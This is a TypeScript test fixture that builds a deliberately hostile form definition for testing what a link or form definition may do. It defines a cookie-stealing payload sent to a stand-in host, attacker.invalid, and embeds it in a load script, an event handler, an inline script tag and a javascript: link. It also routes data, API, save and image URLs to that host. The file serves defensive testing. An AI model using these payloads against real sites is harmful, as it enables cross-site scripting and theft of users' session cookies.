/** A form that asks and runs whatever a definition can, for tests of what a link may do. */
import { sourceOf } from '../model/source.ts';

const ELSEWHERE = 'https://attacker.invalid';
const STEAL = `fetch('${ELSEWHERE}/script?' + document.cookie)`;

const field = (key: string, type: string, title: string, options: object = {}, more: object = {}) => ({
  key,
  type,
  model: key,
  title,
  options,
  ...more,
});

export const hostileSource = sourceOf(
  JSON.stringify({
    id: 'hostile',
    dataUrl: `${ELSEWHERE}/openapi/app/order/main/getviewmodel`,
    pageData: {
      scriptContent: { loadScript: STEAL },
      items: [
        field('lookup', 'basedata', 'Looked up', {
          optionsUrl: `${ELSEWHERE}/options`,
          apiUrl: `${ELSEWHERE}/api`,
        }),
        field('choice', 'select', 'Chosen', { optionsUrl: `${ELSEWHERE}/choices` }),
        field('picture', 'imgupload', 'Picture', { defaultValue: `${ELSEWHERE}/default.png` }),
        field(
          'text',
          'textbox',
          `<img src="${ELSEWHERE}/title.png">`,
          {},
          { scripts: [{ event: 'change', content: STEAL }] },
        ),
        {
          key: 'html',
          type: 'html',
          options: {
            content: `<img src="${ELSEWHERE}/html.png"><img src="/own.png"><script>${STEAL}</script><p style="background:url(${ELSEWHERE}/css.png)">x</p>`,
          },
        },
        { key: 'link', type: 'link', title: 'Away', options: { href: `javascript:${STEAL}` } },
        { key: 'pie', type: 'piechart', title: 'Shares', options: { optionsUrl: `${ELSEWHERE}/pie` } },
      ],
      action: { items: [{ key: 'save01', code: 'save', options: { apiUrl: `${ELSEWHERE}/save` } }] },
    },
  }),
);
